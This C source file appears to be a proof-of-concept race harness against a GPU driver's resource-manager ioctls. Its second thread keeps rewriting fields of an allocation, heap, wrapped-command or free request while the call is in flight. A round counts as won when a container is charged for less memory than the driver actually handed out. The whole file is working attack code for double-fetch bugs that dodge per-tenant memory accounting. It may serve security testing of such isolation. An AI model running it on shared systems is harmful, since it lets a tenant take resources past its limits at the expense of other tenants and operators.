/*
 * swap KIND ROUNDS [MOST]: a tenant whose second thread changes a call's memory while the call is on its way. A round is won
 * when the container is charged for less than the driver gave it, by the report of its memory. With MOST it goes on beyond
 * ROUNDS until a call was refused, for so many rounds at most: two threads that share a processor seldom meet in a call.
 *
 *      size      the size behind RM_ALLOC's pointer
 *      heap      the size in VID_HEAP_CONTROL's struct
 *      class     harmless, or memory
 *      wrapped   the number inside XFER: one that is not watched, or RM_ALLOC
 *      status    the reply: memory that was given looks refused
 *      free      the handle: a small piece, or a large one
 */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "rm.h"

enum { MISUSE = 2, UNWATCHED = 0x5E, EVENT = 0x0005, HANDLE = 0x5000, OTHER = 0x5001, REFUSED = 0x51 };
enum { HANDLE_PROVIDED = 1 << 14, SMALL = 1 << 20, LARGE = 64 << 20 };

struct swap {
	struct rm rm;
	struct nv_alloc_long_535 alloc;
	struct nv_memory_params params;
	struct nv_heap heap;
	struct nv_xfer wrapper;
	struct nv_free free;
	volatile uint32_t *at;
	uint32_t one, other;
	long won, refused, given;
	_Atomic bool is_over;
};

struct kind {
	const char *name;
	void (*prepare)(struct swap *swap);
	uint64_t (*act)(struct swap *swap); /* bytes that the driver has given and not got back */
};

static void *flip(void *given)
{
	struct swap *swap = given;

	while (!swap->is_over) {
		*swap->at = swap->one;
		*swap->at = swap->other;
	}
	return NULL;
}

static void flips(struct swap *swap, uint32_t *at, uint32_t one, uint32_t other)
{
	swap->at = at;
	swap->one = one;
	swap->other = other;
}

static uint64_t used_bytes(const struct swap *swap)
{
	static const uint32_t indices[] = { NV_TOTAL_RAM, NV_HEAP_FREE };
	uint32_t kib[2];

	if (rm_report(&swap->rm, indices, kib, 2) != 0)
		rm_die("FB_GET_INFO", 0);
	return ((uint64_t)kib[0] - kib[1]) << 10;
}

static void call(struct swap *swap, unsigned number, void *at, uint32_t size)
{
	if (rm_ioctl(&swap->rm, swap->rm.control, number, at, size) == 0)
		return;
	if (errno != EINVAL)
		rm_die("ioctl", number);
	swap->refused++;
}

static void start_params(struct swap *swap, uint64_t bytes)
{
	swap->params.owner = NV_OWNER;
	swap->params.attr = swap->rm.attr;
	swap->params.bytes = bytes;
	swap->params.limit = 0;
	swap->alloc.root = swap->rm.client;
	swap->alloc.parent = swap->rm.device;
	swap->alloc.object = HANDLE;
	swap->alloc.params = (uintptr_t)&swap->params;
	swap->alloc.size = sizeof(swap->params);
}

/* The driver says in another word what it gave. */
static uint64_t given(struct swap *swap, uint64_t limit)
{
	swap->given += limit != 0;
	return limit ? limit + 1 : 0;
}

static void prepare_size(struct swap *swap)
{
	swap->alloc.class_number = NV_VIDEO_MEMORY;
	flips(swap, (uint32_t *)&swap->params.bytes, SMALL, LARGE);
}

static void prepare_class(struct swap *swap)
{
	flips(swap, &swap->alloc.class_number, EVENT, NV_VIDEO_MEMORY);
}

static void prepare_status(struct swap *swap)
{
	swap->alloc.class_number = NV_VIDEO_MEMORY;
	flips(swap, &swap->alloc.status, REFUSED, REFUSED);
}

static uint64_t act_alloc(struct swap *swap)
{
	start_params(swap, LARGE);
	call(swap, NV_ALLOC, &swap->alloc, sizeof(swap->alloc));
	return given(swap, swap->params.limit);
}

static void prepare_wrapped(struct swap *swap)
{
	swap->alloc.class_number = NV_VIDEO_MEMORY;
	swap->wrapper = (struct nv_xfer){ NV_ALLOC, sizeof(swap->alloc), (uintptr_t)&swap->alloc };
	flips(swap, &swap->wrapper.command, UNWATCHED, NV_ALLOC);
}

static uint64_t act_wrapped(struct swap *swap)
{
	start_params(swap, LARGE);
	call(swap, NV_XFER, &swap->wrapper, sizeof(swap->wrapper));
	return given(swap, swap->params.limit);
}

static void prepare_heap(struct swap *swap)
{
	flips(swap, (uint32_t *)&swap->heap.bytes, SMALL, LARGE);
}

static uint64_t act_heap(struct swap *swap)
{
	swap->heap = (struct nv_heap){ .root = swap->rm.client, .parent = swap->rm.device, .function = 2, .owner = NV_OWNER,
				       .attr = swap->rm.attr, .bytes = SMALL, .memory = HANDLE, .flags = HANDLE_PROVIDED };
	call(swap, NV_VID_HEAP, &swap->heap, sizeof(swap->heap));
	return given(swap, swap->heap.limit);
}

static void prepare_free(struct swap *swap)
{
	flips(swap, &swap->free.old, HANDLE, OTHER);
}

static void must_take(struct swap *swap, uint32_t handle, uint64_t bytes)
{
	start_params(swap, bytes);
	swap->alloc.class_number = NV_VIDEO_MEMORY;
	swap->alloc.object = handle;
	call(swap, NV_ALLOC, &swap->alloc, sizeof(swap->alloc));
	if (swap->params.limit == 0)
		rm_die("RM_ALLOC", swap->alloc.status);
}

/* What is there has a duplicate. */
static bool is_there(const struct swap *swap, uint32_t handle)
{
	uint32_t copy = 0;

	if (rm_dup(&swap->rm, swap->rm.client, handle, &copy) != 0)
		return false;
	rm_free(&swap->rm, copy);
	return true;
}

static uint64_t act_free(struct swap *swap)
{
	uint64_t left = SMALL + LARGE, seen;

	must_take(swap, HANDLE, LARGE);
	must_take(swap, OTHER, SMALL);
	swap->free = (struct nv_free){ .root = swap->rm.client, .old = OTHER };
	call(swap, NV_FREE, &swap->free, sizeof(swap->free));
	seen = used_bytes(swap);
	if (!is_there(swap, HANDLE))
		left -= LARGE;
	if (!is_there(swap, OTHER))
		left -= SMALL;
	rm_free(&swap->rm, HANDLE);
	rm_free(&swap->rm, OTHER);
	swap->given += left < SMALL + LARGE;
	/* Both are free by now: what was charged too little a moment ago. */
	return left > seen ? left : 0;
}

static const struct kind kinds[] = {
	{ "size", prepare_size, act_alloc },	      { "heap", prepare_heap, act_heap },
	{ "class", prepare_class, act_alloc },	      { "wrapped", prepare_wrapped, act_wrapped },
	{ "status", prepare_status, act_alloc },      { "free", prepare_free, act_free },
};

static void run(struct swap *swap, const struct kind *kind, long rounds, long most)
{
	pthread_t thread;
	long done = 0;

	rm_start(&swap->rm);
	kind->prepare(swap);
	if (pthread_create(&thread, NULL, flip, swap) != 0)
		rm_die("thread", 0);
	for (; done < rounds || (swap->refused == 0 && done < most); done++) {
		uint64_t before = used_bytes(swap), truth = kind->act(swap);

		swap->won += used_bytes(swap) < before + truth;
		rm_free(&swap->rm, HANDLE);
	}
	swap->is_over = true;
	pthread_join(thread, NULL);
	printf("%ld of %ld won, %ld refused, %ld given\n", swap->won, done, swap->refused, swap->given);
}

int main(int count, char **words)
{
	static struct swap swap;

	if (count != 3 && count != 4)
		return MISUSE;
	swap.rm = rm_plain();
	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
		if (strcmp(kinds[i].name, words[1]) == 0) {
			run(&swap, &kinds[i], atol(words[2]), count == 4 ? atol(words[3]) : 0);
			return EXIT_SUCCESS;
		}
	}
	return MISUSE;
}
